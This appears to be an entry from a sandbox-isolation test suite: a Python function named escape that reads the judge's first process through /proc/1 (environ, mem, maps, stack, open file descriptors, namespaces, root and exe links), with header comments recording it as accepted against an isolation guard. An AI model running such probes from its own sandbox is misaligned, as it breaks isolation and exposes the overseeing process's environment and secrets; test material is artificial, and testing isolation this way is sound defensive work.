# verdict: AC — everything that /proc tells of the first process, which the judge made
# task: escape
# row: S29
# needs: T1
# guard: isolation WA
import os


def escape(bait):
    reached = []
    for name in ("environ", "maps", "mem", "auxv", "stack", "syscall", "io", "smaps", "pagemap", "personality"):
        try:
            with open(f"/proc/1/{name}", "rb") as file:
                if file.read(1):
                    reached.append(name)
        except OSError:
            pass
    for name in ("fd", "fdinfo", "map_files", "task/1/fd", "ns"):
        try:
            reached += [f"{name}/{entry}" for entry in os.listdir(f"/proc/1/{name}") if os.readlink(f"/proc/1/{name}/{entry}")]
        except OSError:
            pass
    for name in ("root", "cwd", "exe"):
        try:
            reached.append(os.readlink(f"/proc/1/{name}"))
        except OSError:
            pass
    return reached
